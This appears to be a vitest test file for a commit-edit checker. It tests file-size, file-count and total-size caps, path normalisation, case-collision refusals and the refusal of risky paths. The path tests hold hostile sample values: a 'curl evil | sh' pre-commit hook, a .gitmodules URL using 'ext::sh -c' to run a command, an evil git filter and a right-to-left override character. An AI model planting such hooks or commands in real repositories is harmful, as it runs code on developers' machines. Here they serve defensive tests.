import { describe, expect, it } from "vitest";
import { checkEdit, type EditOptions } from "../../src/forge/check-commit.js";
import { DEFAULT_EDIT_LIMITS } from "../../src/forge/edit-policy.js";
import { type FileChange, ForgeRefusal } from "../../src/forge/forge.js";

const MiB = 1024 * 1024;

function refusal(changes: FileChange[], options?: EditOptions): ForgeRefusal {
  try {
    checkEdit(changes, options);
  } catch (error) {
    if (error instanceof ForgeRefusal) return error;
    throw error;
  }
  throw new Error("expected the edit to be refused");
}

function files(count: number, size = 10): FileChange[] {
  return Array.from({ length: count }, (_, i) => ({ path: `src/f${i}.ts`, content: "x".repeat(size) }));
}

describe("checkEdit > limits on one edit (issue 11, class 8)", () => {
  it("has defaults of 1 MiB a file, 100 files and 5 MiB an edit", () => {
    expect(DEFAULT_EDIT_LIMITS).toEqual({ maxFileBytes: MiB, maxFiles: 100, maxTotalBytes: 5 * MiB });
  });

  describe("a file's size", () => {
    it("refuses a 30 MB file, naming it, its size, the cap and the setting", () => {
      const error = refusal([{ path: "dump.bin.txt", content: "a".repeat(30_000_000) }]);
      expect(error.message).toBe(
        `refusing to write "dump.bin.txt": it is 30000000 bytes and a file may have at most ${MiB}; raise edits.max_file_bytes to allow it`,
      );
    });

    it("accepts a file of exactly the cap and refuses one byte more", () => {
      expect(checkEdit([{ path: "a.txt", content: "a".repeat(MiB) }])).toHaveLength(1);
      expect(refusal([{ path: "a.txt", content: "a".repeat(MiB + 1) }]).message).toMatch(/1048577 bytes/);
    });

    it("counts UTF-8 bytes, not characters", () => {
      const content = "é".repeat(MiB / 2 + 1); // 1 MiB + 2 bytes in fewer than 1 MiB characters
      expect(content.length).toBeLessThan(MiB);
      expect(refusal([{ path: "a.txt", content }]).message).toMatch(/1048578 bytes/);
    });

    it("follows a configured cap", () => {
      const options = { maxFileBytes: 100 };
      expect(checkEdit([{ path: "a.txt", content: "a".repeat(100) }], options)).toHaveLength(1);
      expect(refusal([{ path: "a.txt", content: "a".repeat(101) }], options).message).toMatch(/at most 100/);
      expect(
        checkEdit([{ path: "big.txt", content: "a".repeat(30_000_000) }], {
          maxFileBytes: 40_000_000,
          maxTotalBytes: 40_000_000,
        }),
      ).toHaveLength(1);
    });
  });

  describe("the number of files", () => {
    it("refuses 3,000 small files", () => {
      expect(refusal(files(3000)).message).toBe(
        "refusing the edit: it changes 3000 files and one commit may change at most 100; split the work, or raise edits.max_files",
      );
    });

    it("accepts 100 and refuses 101", () => {
      expect(checkEdit(files(100))).toHaveLength(100);
      expect(refusal(files(101)).message).toMatch(/101 files/);
    });

    it("counts deletions too", () => {
      const deletions = Array.from(
        { length: 101 },
        (_, i): FileChange => ({ path: `old/${i}.ts`, delete: true }),
      );
      expect(refusal(deletions).message).toMatch(/101 files/);
    });

    it("follows a configured cap", () => {
      expect(checkEdit(files(3000), { maxFiles: 3000 })).toHaveLength(3000);
      expect(refusal(files(3), { maxFiles: 2 }).message).toMatch(/at most 2;/);
    });
  });

  describe("the edit's total size", () => {
    it("refuses files each under the cap that are over it together", () => {
      const error = refusal(files(6, MiB));
      expect(error.message).toBe(
        `refusing the edit: its files hold ${6 * MiB} bytes together and one commit may write at most ${5 * MiB}; split the work, or raise edits.max_total_bytes`,
      );
    });

    it("accepts exactly the cap and refuses one byte more", () => {
      expect(checkEdit(files(5, MiB))).toHaveLength(5);
      expect(refusal([...files(5, MiB), { path: "one.txt", content: "1" }]).message).toMatch(/5242881 bytes/);
    });

    it("follows a configured cap", () => {
      expect(refusal(files(3, 10), { maxTotalBytes: 29 }).message).toMatch(/30 bytes together/);
      expect(checkEdit(files(6, MiB), { maxTotalBytes: 6 * MiB })).toHaveLength(6);
    });
  });

  describe("paths", () => {
    it("checks every path and returns them normalised", () => {
      expect(
        checkEdit([
          { path: "./docs//a.md", content: "a" },
          { path: "old.md", delete: true },
        ]),
      ).toEqual([
        { path: "docs/a.md", content: "a" },
        { path: "old.md", delete: true },
      ]);
    });

    it.each([
      [
        ".gitmodules",
        '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/pwned\n',
        /edits.allow: \[submodules\]/,
      ],
      ["lib/.gitattributes", "* filter=evil\n", /edits.allow: \[attributes\]/],
      [".HUSKY/pre-commit", "curl evil | sh\n", /edits.allow: \[hooks\]/],
      ["a\u202eb.ts", "x", /U\+202E/],
    ])("refuses %j among ordinary files", (path, content, rule) => {
      expect(
        refusal([
          { path: "README.md", content: "ok" },
          { path, content },
        ]).message,
      ).toMatch(rule);
    });

    it("writes an allowed area", () => {
      const gitmodules = {
        path: ".gitmodules",
        content: '[submodule "x"]\n\tpath = x\n\turl = https://example.com/x\n',
      };
      expect(checkEdit([gitmodules], { allow: ["submodules"] })).toEqual([gitmodules]);
    });

    it.each([
      ["README.md", "readme.md"],
      ["docs/Guide.md", "DOCS/guide.md"],
      ["a.txt", "a.txt."],
      ["notes", "NOTES::$DATA"],
    ])("refuses %j and %j, one file on Windows and macOS", (first, second) => {
      expect(
        refusal([
          { path: first, content: "1" },
          { path: second, content: "2" },
        ]).message,
      ).toMatch(/are one file on Windows and macOS/);
    });

    it("refuses the same path twice, written or deleted", () => {
      expect(
        refusal([
          { path: "a.txt", content: "1" },
          { path: "./a.txt", delete: true },
        ]).message,
      ).toMatch(/twice/);
    });

    it("lets a case-only rename through (delete one spelling, write the other)", () => {
      expect(
        checkEdit([
          { path: "README.md", delete: true },
          { path: "readme.md", content: "x" },
        ]),
      ).toHaveLength(2);
    });
  });
});
